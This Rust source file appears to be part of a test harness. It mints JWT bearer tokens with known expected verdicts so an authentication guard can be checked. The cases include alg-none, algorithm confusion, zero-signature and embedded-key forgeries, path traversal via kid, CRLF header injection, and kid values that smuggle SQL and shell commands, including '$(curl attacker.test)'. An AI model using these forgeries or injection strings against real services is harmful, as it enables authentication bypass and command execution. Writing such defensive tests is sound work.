//! Recipes and minting: the small numbers a case is made from, their strategies, and the
//! construction of each family's token with what a correct guard decides for it.

use super::context::MintContext;
use super::family::TokenFamily;
use super::keys::{PreparedKey, Signer, sign_with};
use crate::guard::config::is_hmac;
use crate::guard::{Rejection, ScopeSet};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use proptest::prelude::*;
use serde_json::json;

/// What a correct guard decides for a case (authentication and the endpoint's scope).
#[derive(Clone, Debug, PartialEq)]
pub enum Expected {
    /// The request gets through to the endpoint.
    Accept {
        /// Who the guard must say the caller is.
        sub: String,
        /// The scopes the guard must grant.
        scopes: ScopeSet,
    },
    /// The request is refused, for this reason (which fixes the status and the
    /// `WWW-Authenticate` error a correct guard sends).
    Reject(Rejection),
}

/// One generated request credential with its ground truth.
#[derive(Clone, PartialEq)]
pub struct TokenCase {
    /// The family it was minted as.
    pub family: TokenFamily,
    /// The `Authorization` header values to send: none, one, or several.
    pub authorization: Vec<String>,
    /// A token to put in the query string (`?access_token=`), which a guard must ignore.
    pub query_token: Option<String>,
    /// The compact JWT inside, if there is one (so reports and scrubbers can register it).
    pub token: Option<String>,
    /// What a correct guard decides for it.
    pub expect: Expected,
}

impl std::fmt::Debug for TokenCase {
    /// Shows the headers: they are short-lived test credentials minted for this case, and a
    /// failing property test needs them to be reproducible.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TokenCase")
            .field("family", &self.family)
            .field("authorization", &self.authorization)
            .field("query_token", &self.query_token)
            .field("expect", &self.expect)
            .finish()
    }
}

impl TokenCase {
    /// The header values as byte slices, the shape `Guard::decide` takes.
    pub fn header_bytes(&self) -> Vec<&[u8]> {
        self.authorization.iter().map(|h| h.as_bytes()).collect()
    }
}

/// The small numbers a token case is made from.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, arbitrary::Arbitrary, serde::Serialize, serde::Deserialize,
)]
pub struct TokenRecipe {
    /// Which family to mint.
    pub family: TokenFamily,
    /// Which principal (modulo their number).
    pub principal: u32,
    /// Which variant of the family (spelling, position, …).
    pub variant: u8,
    /// How far past a time boundary, in seconds.
    pub skew_s: u16,
    /// The token's `jti`, so tokens of one campaign differ (and a changed claim is fresh).
    pub jti: u32,
}

/// A proptest strategy over every family.
pub fn token_recipe() -> impl Strategy<Value = TokenRecipe> {
    (
        0..TokenFamily::ALL.len(),
        any::<u32>(),
        any::<u8>(),
        0u16..3600,
        any::<u32>(),
    )
        .prop_map(|(f, principal, variant, skew_s, jti)| TokenRecipe {
            family: TokenFamily::ALL[f],
            principal,
            variant,
            skew_s,
            jti,
        })
}

/// A proptest strategy over one family.
pub fn token_recipe_of(family: TokenFamily) -> impl Strategy<Value = TokenRecipe> {
    token_recipe().prop_map(move |r| TokenRecipe { family, ..r })
}

const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];
const OTHER_SCHEMES: [&str; 4] = ["Basic dXNlcjpwYXNz", "Token ", "JWT ", "Bearer: "];
const KID_TRAVERSALS: [&str; 3] = [
    "../../../../../../dev/null",
    "/dev/null",
    "..%2f..%2f..%2fdev%2fnull",
];
/// `kid` payloads and the secret a vulnerable lookup would then use.
const KID_INJECTIONS: [(&str, &str); 3] = [
    ("x' UNION SELECT 'attacker-key' -- ", "attacker-key"),
    ("key1|/usr/bin/id", ""),
    ("$(curl attacker.test)", ""),
];

impl TokenRecipe {
    /// Builds the case: the header values to send and what a correct guard decides.
    pub fn mint(&self, ctx: &MintContext, now: u64) -> TokenCase {
        use TokenFamily::*;
        let principal = &ctx.principals[self.principal as usize % ctx.principals.len()];
        let v = self.variant as usize;
        let skew = u64::from(self.skew_s);
        let accept = |scopes: &ScopeSet| {
            if scopes.includes(&ctx.required_scope) {
                Expected::Accept {
                    sub: principal.sub.clone(),
                    scopes: scopes.clone(),
                }
            } else {
                Expected::Reject(Rejection::InsufficientScope)
            }
        };
        let header = ctx.base_header();
        let mut claims = ctx.base_claims(principal, now, self.jti);
        if !(principal.from_login && principal.scope.is_empty()) {
            claims["scope"] = json!(principal.scope.to_string());
        }
        let subject = ctx.subject_claim.as_str();
        let trusted = |h: &serde_json::Value, c: &serde_json::Value| {
            ctx.sign_trusted(&h.to_string(), &c.to_string())
        };
        let valid = trusted(&header, &claims);
        let bearer = |t: &str| format!("Bearer {t}");
        let case =
            |authorization: Vec<String>, token: Option<String>, expect: Expected| TokenCase {
                family: self.family,
                authorization,
                query_token: None,
                token,
                expect,
            };
        let single =
            |token: String, expect: Expected| case(vec![bearer(&token)], Some(token), expect);
        let reject = Expected::Reject;
        // A forgery for the issuer's algorithm family: the header claims the pinned `alg` but
        // the signature comes from a key the attacker holds.
        let forge = |h: &serde_json::Value, c: &serde_json::Value| {
            let signer = match ctx.key.alg {
                a if is_hmac(a) => Signer::Key(&ctx.attacker.hmac, a),
                a @ (Algorithm::ES256 | Algorithm::ES384) => Signer::Key(&ctx.attacker.ec, a),
                Algorithm::EdDSA => Signer::Key(&ctx.attacker.ed, Algorithm::EdDSA),
                a => Signer::Key(&ctx.attacker.rsa, a),
            };
            sign_with(&h.to_string(), &c.to_string(), signer)
        };
        // With no `kid` map, a `kid` is ignored: the forgery then fails on `alg` or signature.
        let kid_forgery_verdict = || {
            if ctx.has_kid_map {
                Rejection::UnknownKid
            } else if ctx.key.alg != Algorithm::HS256 {
                Rejection::AlgMismatch
            } else {
                Rejection::BadSignature
            }
        };

        match self.family {
            Valid => single(valid, accept(&principal.scope)),
            ValidAudienceArray => {
                let mut auds = vec![json!("https://other.example")];
                auds.push(json!(ctx.audience.clone().unwrap_or_else(|| "any".into())));
                if v % 2 == 1 {
                    auds.reverse();
                }
                claims["aud"] = json!(auds);
                single(trusted(&header, &claims), accept(&principal.scope))
            }
            ValidHeaderVariant => {
                let h = match v % 5 {
                    0 => format!("bearer {valid}"),
                    1 => format!("BEARER {valid}"),
                    2 => format!("Bearer   {valid}"),
                    3 => format!("  Bearer {valid}\t"),
                    _ => format!("bEaReR {valid}"),
                };
                case(vec![h], Some(valid), accept(&principal.scope))
            }
            ValidScpArray => {
                let tokens: Vec<&str> = principal.scope.iter().collect();
                remove_member(&mut claims, "scope");
                claims["scp"] = json!(tokens);
                single(trusted(&header, &claims), accept(&principal.scope))
            }
            Overscoped => {
                let mut scopes = principal.scope.clone();
                ctx.required_scope.iter().for_each(|t| scopes.insert(t));
                for extra in ["docs:admin", "admin", "tools:delete", "*"]
                    .iter()
                    .take(1 + v % 4)
                {
                    scopes.insert(extra);
                }
                claims["scope"] = json!(scopes.to_string());
                single(trusted(&header, &claims), accept(&scopes))
            }
            SessionClaimChanged => {
                // A claim the login bound to the session, changed or left out: what a token
                // from before a sign-out, or one re-signed with a leaked key, looks like.
                let bound: Vec<&String> = ctx
                    .bound_claims
                    .iter()
                    .filter(|c| principal.from_login && principal.claims.contains_key(*c))
                    .collect();
                match bound.get(v % bound.len().max(1)) {
                    None => single(valid, accept(&principal.scope)),
                    Some(name) => {
                        if (v / bound.len().max(1)).is_multiple_of(2) {
                            remove_member(&mut claims, name);
                        } else {
                            let old = claims[name.as_str()].clone();
                            claims[name.as_str()] = match old {
                                serde_json::Value::String(s) => {
                                    json!(format!("{s}{:x}", self.jti | 1))
                                }
                                serde_json::Value::Number(n) => {
                                    json!(n.as_i64().unwrap_or(0).wrapping_add(1))
                                }
                                _ => json!("confab-stale-session"),
                            };
                        }
                        single(
                            trusted(&header, &claims),
                            reject(Rejection::SessionMismatch),
                        )
                    }
                }
            }
            MissingHeader => case(vec![], None, reject(Rejection::MissingCredentials)),
            TokenInQuery => TokenCase {
                query_token: Some(valid.clone()),
                ..case(vec![], Some(valid), reject(Rejection::MissingCredentials))
            },
            OtherScheme => {
                let scheme = OTHER_SCHEMES[v % OTHER_SCHEMES.len()];
                let h = if scheme.starts_with("Basic") {
                    scheme.to_owned()
                } else {
                    format!("{scheme}{valid}")
                };
                case(vec![h], Some(valid), reject(Rejection::UnsupportedScheme))
            }
            EmptyCredential => {
                let h = ["Bearer", "Bearer ", "", "bearer    "][v % 4].to_owned();
                case(vec![h], None, reject(Rejection::MalformedHeader))
            }
            TabSeparator => case(
                vec![format!("Bearer\t{valid}")],
                Some(valid),
                reject(Rejection::MalformedHeader),
            ),
            TrailingData => {
                let h = match v % 3 {
                    0 => format!("Bearer {valid} extra"),
                    1 => format!("Bearer {valid}, Bearer {valid}"),
                    _ => format!("Bearer {valid};"),
                };
                case(vec![h], Some(valid), reject(Rejection::MalformedHeader))
            }
            DuplicateHeaders => case(
                vec![bearer(&valid), bearer(&valid)],
                Some(valid),
                reject(Rejection::MultipleCredentials),
            ),
            HeaderInjection => {
                let h = match v % 3 {
                    0 => format!("Bearer {valid}\r\nX-Injected: 1"),
                    1 => format!("Bearer {valid}\0"),
                    _ => format!("Bearer \x1b{valid}"),
                };
                case(vec![h], Some(valid), reject(Rejection::MalformedHeader))
            }
            Oversized => {
                let pad = ctx.max_token_bytes + 1 + (v % 64) * 16;
                claims["pad"] = json!("A".repeat(pad));
                single(trusted(&header, &claims), reject(Rejection::Oversized))
            }
            AlgNone => {
                let mut h = header.clone();
                h["alg"] = json!(NONE_SPELLINGS[v % NONE_SPELLINGS.len()]);
                let signer = if (v / 4).is_multiple_of(2) {
                    Signer::Fixed(Vec::new())
                } else {
                    Signer::Key(&ctx.trusted, ctx.key.alg)
                };
                single(
                    sign_with(&h.to_string(), &claims.to_string(), signer),
                    reject(Rejection::AlgNone),
                )
            }
            StrippedSignature => {
                let body = valid.rsplit_once('.').map_or("", |(b, _)| b);
                single(format!("{body}."), reject(Rejection::BadSignature))
            }
            WrongKey => single(forge(&header, &claims), reject(Rejection::BadSignature)),
            TamperedPayload => {
                // Re-encode an escalated payload under the original signature.
                let mut escalated = claims.clone();
                escalated["scope"] = json!(format!("{} docs:write docs:admin", principal.scope));
                escalated[subject] = json!("admin");
                let sig = valid.rsplit('.').next().unwrap_or_default();
                let h64 = valid.split('.').next().unwrap_or_default();
                let p64 = URL_SAFE_NO_PAD.encode(escalated.to_string());
                single(
                    format!("{h64}.{p64}.{sig}"),
                    reject(Rejection::BadSignature),
                )
            }
            AlgConfusion => {
                let mut h = header.clone();
                let token = match (&ctx.key.public_pem, is_hmac(ctx.key.alg)) {
                    // RS→HS: the public key, which the attacker has, as the HMAC secret.
                    (Some(public), false) => {
                        h["alg"] = json!(["HS256", "HS384", "HS512"][v % 3]);
                        let alg = [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512][v % 3];
                        match EncodingKey::from_secret(public) {
                            Ok(k) => sign_with(
                                &h.to_string(),
                                &claims.to_string(),
                                Signer::Key(&PreparedKey::new(k, alg), alg),
                            ),
                            Err(_) => String::new(),
                        }
                    }
                    // HS→RS: an attacker RSA signature under an asymmetric `alg`.
                    _ => {
                        h["alg"] = json!("RS256");
                        sign_with(
                            &h.to_string(),
                            &claims.to_string(),
                            Signer::Key(&ctx.attacker.rsa, Algorithm::RS256),
                        )
                    }
                };
                single(token, reject(Rejection::AlgMismatch))
            }
            EcdsaZeroSignature => {
                // CVE-2022-21449: r = s = 0 passed Java's ECDSA check.
                let mut h = header.clone();
                h["alg"] = json!("ES256");
                let len = if v.is_multiple_of(2) { 64 } else { 8 };
                let expect = if ctx.key.alg == Algorithm::ES256 {
                    Rejection::BadSignature
                } else {
                    Rejection::AlgMismatch
                };
                single(
                    sign_with(
                        &h.to_string(),
                        &claims.to_string(),
                        Signer::Fixed(vec![0; len]),
                    ),
                    reject(expect),
                )
            }
            EmbeddedJwk => {
                // CVE-2018-0114: the token brings its own key.
                let mut h = header.clone();
                h["jwk"] = json!({
                    "kty": "RSA", "e": "AQAB", "n": ctx.attacker.rsa_pub_jwk_n,
                });
                let signer = match ctx.key.alg {
                    a if is_hmac(a) => Signer::Key(&ctx.attacker.hmac, a),
                    _ => {
                        h["alg"] = json!("RS256");
                        Signer::Key(&ctx.attacker.rsa, Algorithm::RS256)
                    }
                };
                single(
                    sign_with(&h.to_string(), &claims.to_string(), signer),
                    reject(Rejection::KeyInHeader),
                )
            }
            RemoteKeyUrl => {
                let mut h = header.clone();
                let member = ["jku", "x5u"][v % 2];
                // The harness's attacker host, so a target that fetches the key is seen doing it.
                h[member] = json!(format!(
                    "{}/.well-known/jwks-{}.json",
                    ctx.attacker_base.trim_end_matches('/'),
                    self.jti
                ));
                single(forge(&h, &claims), reject(Rejection::KeyInHeader))
            }
            KidTraversal => {
                let mut h = header.clone();
                h["kid"] = json!(KID_TRAVERSALS[v % KID_TRAVERSALS.len()]);
                h["alg"] = json!("HS256");
                // `/dev/null` reads as the empty key.
                single(
                    sign_with(&h.to_string(), &claims.to_string(), Signer::RawHmac(b"")),
                    reject(kid_forgery_verdict()),
                )
            }
            KidInjection => {
                let (kid, secret) = KID_INJECTIONS[v % KID_INJECTIONS.len()];
                let mut h = header.clone();
                h["kid"] = json!(kid);
                h["alg"] = json!("HS256");
                single(
                    sign_with(
                        &h.to_string(),
                        &claims.to_string(),
                        Signer::RawHmac(secret.as_bytes()),
                    ),
                    reject(kid_forgery_verdict()),
                )
            }
            UnknownCrit => {
                let mut h = header.clone();
                h["crit"] = match v % 3 {
                    0 => json!(["exp"]),
                    1 => json!(["urn:confab:unknown-extension"]),
                    _ => json!([]),
                };
                if v % 3 == 1 {
                    h["urn:confab:unknown-extension"] = json!(true);
                }
                single(trusted(&h, &claims), reject(Rejection::UnsupportedCrit))
            }
            TypConfusion => {
                let mut h = header.clone();
                h["typ"] = json!(["JWT", "id_token+jwt", "JWE", "at+jwt+evil"][v % 4]);
                // Only a guard that requires a `typ` refuses these.
                let expect = match &ctx.typ {
                    Some(_) => reject(Rejection::TypMismatch),
                    None => accept(&principal.scope),
                };
                single(trusted(&h, &claims), expect)
            }
            Expired => {
                claims["exp"] = json!(now.saturating_sub(ctx.leeway_s + skew));
                claims["iat"] = json!(now.saturating_sub(ctx.leeway_s + skew + 3600));
                claims["nbf"] = json!(now.saturating_sub(ctx.leeway_s + skew + 3600));
                single(trusted(&header, &claims), reject(Rejection::Expired))
            }
            NotYetValid => {
                claims["nbf"] = json!(now + ctx.leeway_s + 1 + skew);
                claims["exp"] = json!(now + ctx.leeway_s + 1 + skew + 900);
                single(trusted(&header, &claims), reject(Rejection::NotYetValid))
            }
            MissingExp => {
                remove_member(&mut claims, "exp");
                single(trusted(&header, &claims), reject(Rejection::MissingExp))
            }
            StringNumericDate => {
                let member = ["exp", "nbf", "iat"][v % 3];
                let value = claims[member].as_u64().unwrap_or(now);
                claims[member] = json!(value.to_string());
                single(trusted(&header, &claims), reject(Rejection::ClaimType))
            }
            WrongIssuer | MissingIssuer => {
                if self.family == WrongIssuer {
                    let iss = ctx.issuer.clone().unwrap_or_default();
                    claims["iss"] = json!(match v % 3 {
                        0 => "https://attacker.test".to_owned(),
                        1 => format!("{iss}/"),
                        _ => iss.to_uppercase(),
                    });
                } else {
                    remove_member(&mut claims, "iss");
                }
                let expect = match &ctx.issuer {
                    Some(want) if claims.get("iss").and_then(|i| i.as_str()) != Some(want) => {
                        reject(Rejection::IssuerMismatch)
                    }
                    _ => accept(&principal.scope),
                };
                single(trusted(&header, &claims), expect)
            }
            WrongAudience | MissingAudience => {
                if self.family == WrongAudience {
                    let aud = ctx.audience.clone().unwrap_or_default();
                    claims["aud"] = match v % 3 {
                        0 => json!("other-api"),
                        1 => json!(["other-api", format!("{aud}x")]),
                        _ => json!([]),
                    };
                } else {
                    remove_member(&mut claims, "aud");
                }
                let expect = if ctx.audience.is_some() {
                    reject(Rejection::AudienceMismatch)
                } else {
                    accept(&principal.scope)
                };
                single(trusted(&header, &claims), expect)
            }
            MissingSub => {
                if v.is_multiple_of(2) {
                    remove_member(&mut claims, subject);
                } else {
                    claims[subject] = json!("");
                }
                single(trusted(&header, &claims), reject(Rejection::MissingSub))
            }
            DuplicateClaim => {
                // A second member after the first: parsers that keep the last one see "admin".
                let member = [subject, "scope", "exp"][v % 3];
                let extra = match member {
                    m if m == subject => json!("admin"),
                    "scope" => json!("docs:read docs:write docs:admin"),
                    _ => json!(now + 10 * 365 * 86400),
                };
                let body = claims.to_string();
                let payload = format!(
                    "{},\"{member}\":{extra}}}",
                    body.strip_suffix('}').unwrap_or(&body)
                );
                single(
                    ctx.sign_trusted(&header.to_string(), &payload),
                    reject(Rejection::DuplicateMember),
                )
            }
            DuplicateHeaderMember => {
                let body = header.to_string();
                let h = format!(
                    "{},\"alg\":\"none\"}}",
                    body.strip_suffix('}').unwrap_or(&body)
                );
                single(
                    ctx.sign_trusted(&h, &claims.to_string()),
                    reject(Rejection::DuplicateMember),
                )
            }
            BadBase64 => {
                let mut parts: Vec<String> = valid.split('.').map(str::to_owned).collect();
                let i = v % 3;
                let bad = ["+", "/", "~"][v / 3 % 3];
                if let Some(p) = parts.get_mut(i) {
                    let at = p.len() / 2;
                    p.insert_str(at, bad);
                }
                single(parts.join("."), reject(Rejection::MalformedToken))
            }
            PaddedSegments => {
                // Find a payload whose base64url form needs padding (one of three lengths does).
                let mut t = valid.clone();
                for pad in ["", "x", "xy"] {
                    claims["pad"] = json!(pad);
                    t = trusted(&header, &claims);
                    if t.split('.').nth(1).map_or(0, str::len) % 4 != 0 {
                        break;
                    }
                }
                let parts: Vec<&str> = t.split('.').collect();
                let (h64, p64, s64) = (parts[0], parts[1], parts[2]);
                if v.is_multiple_of(2) {
                    // Padding at the end is still a b64token, but JWS forbids it.
                    single(
                        format!("{h64}.{p64}.{s64}="),
                        reject(Rejection::MalformedToken),
                    )
                } else {
                    // Inside the credential, `=` is not even b64token syntax.
                    let n = (4 - p64.len() % 4) % 4;
                    let padded = format!("{h64}.{p64}{}.{s64}", "=".repeat(n.max(1)));
                    single(padded, reject(Rejection::MalformedHeader))
                }
            }
            WrongSegmentCount => {
                let t = match v % 4 {
                    0 => valid
                        .rsplit_once('.')
                        .map_or(String::new(), |(b, _)| b.to_owned()),
                    1 => format!("{valid}.{}", URL_SAFE_NO_PAD.encode("extra")),
                    // A JWE-shaped five-part token.
                    2 => format!("{valid}.AAAA.BBBB"),
                    _ => valid.replacen('.', "", 1),
                };
                single(t, reject(Rejection::MalformedToken))
            }
            NotJson => {
                let garbage = ["not json", "[]", "{\"alg\":", "\u{feff}{}"][v % 4];
                let (h, c) = if (v / 4).is_multiple_of(2) {
                    (garbage.to_owned(), claims.to_string())
                } else {
                    (header.to_string(), garbage.to_owned())
                };
                // Garbage in either place is malformed (a payload only after the signature).
                single(ctx.sign_trusted(&h, &c), reject(Rejection::MalformedToken))
            }
            // A login's tokens without scopes, on an endpoint that needs none: the app's claims
            // have no `scope` to confuse.
            ScopeCommaSeparated | ScopeArray | ScopeWildcard | ScopeCaseChanged | ScopePrefix
            | ScopeHomoglyph | ScopeMissing
                if principal.from_login
                    && principal.scope.is_empty()
                    && ctx.required_scope.is_empty() =>
            {
                single(valid, accept(&principal.scope))
            }
            ScopeCommaSeparated | ScopeArray | ScopeWildcard | ScopeCaseChanged | ScopePrefix
            | ScopeHomoglyph | ScopeMissing => {
                let required: Vec<&str> = ctx.required_scope.iter().collect();
                let first = required.first().copied().unwrap_or("docs:read");
                let (scope_value, expect): (serde_json::Value, Expected) = match self.family {
                    ScopeCommaSeparated => {
                        let mut items: Vec<&str> = required.clone();
                        items.push("docs:extra");
                        let joined = items.join(",");
                        (json!(joined), accept(&ScopeSet::parse(&joined)))
                    }
                    // RFC 8693 §4.2: `scope` is a string; an array is malformed.
                    ScopeArray => (json!(required), reject(Rejection::ClaimType)),
                    ScopeWildcard => {
                        let s = ["*", "docs:*", "*:*", ".*"][v % 4];
                        (json!(s), accept(&ScopeSet::parse(s)))
                    }
                    ScopeCaseChanged => {
                        let s = if v.is_multiple_of(2) {
                            first.to_uppercase()
                        } else {
                            capitalize(first)
                        };
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    ScopePrefix => {
                        let s = match v % 3 {
                            0 => format!("{first}only"),
                            1 => first.split(':').next().unwrap_or(first).to_owned(),
                            _ => format!("x{first}"),
                        };
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    ScopeHomoglyph => {
                        let s = homoglyph(first, v);
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    _ => (json!(""), accept(&ScopeSet::new())),
                };
                claims["scope"] = scope_value;
                single(trusted(&header, &claims), expect)
            }
        }
    }

    /// Builds a recipe from fuzzer bytes.
    pub fn from_bytes(data: &[u8]) -> arbitrary::Result<TokenRecipe> {
        arbitrary::Unstructured::new(data).arbitrary()
    }
}

fn capitalize(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for (i, c) in s.chars().enumerate() {
        if i == 0 {
            out.extend(c.to_uppercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// Swaps one character for a look-alike (Cyrillic, fullwidth, or a zero-width joiner).
fn homoglyph(s: &str, variant: usize) -> String {
    const SWAPS: [(char, char); 6] = [
        ('o', 'о'),
        ('a', 'а'),
        ('e', 'е'),
        ('c', 'с'),
        ('d', 'ԁ'),
        (':', '：'),
    ];
    let mut out = String::with_capacity(s.len() + 4);
    let mut swapped = false;
    for c in s.chars() {
        match SWAPS.iter().find(|(from, _)| *from == c) {
            Some((_, to)) if !swapped => {
                out.push(*to);
                swapped = true;
            }
            _ => out.push(c),
        }
    }
    if !swapped || variant % 2 == 1 {
        out.push('\u{200b}');
    }
    out
}

fn remove_member(v: &mut serde_json::Value, name: &str) {
    if let Some(m) = v.as_object_mut() {
        m.remove(name);
    }
}
